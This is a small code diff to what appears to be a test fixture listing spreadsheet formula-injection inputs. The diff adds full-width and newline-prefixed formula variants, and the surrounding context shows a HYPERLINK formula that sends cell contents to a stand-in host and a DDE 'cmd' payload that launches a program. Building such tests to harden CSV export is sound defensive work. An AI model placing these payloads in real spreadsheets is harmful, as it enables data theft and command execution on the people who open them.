@@ -78,6 +78,8 @@ const UNSEEN = {
 const FORMULAS = {
   "a formula": `=HYPERLINK("https://elsewhere.example/?"&A1,"Invoice")`,
   "a command of a spreadsheet": "=cmd|' /C calc'!A0",
+  "a formula in wide letters": "＝1＋1",
+  "a formula on a second line": "\n=1+1",
   "a formula behind a tab": '\t=1+1","=2+2',
 };
 
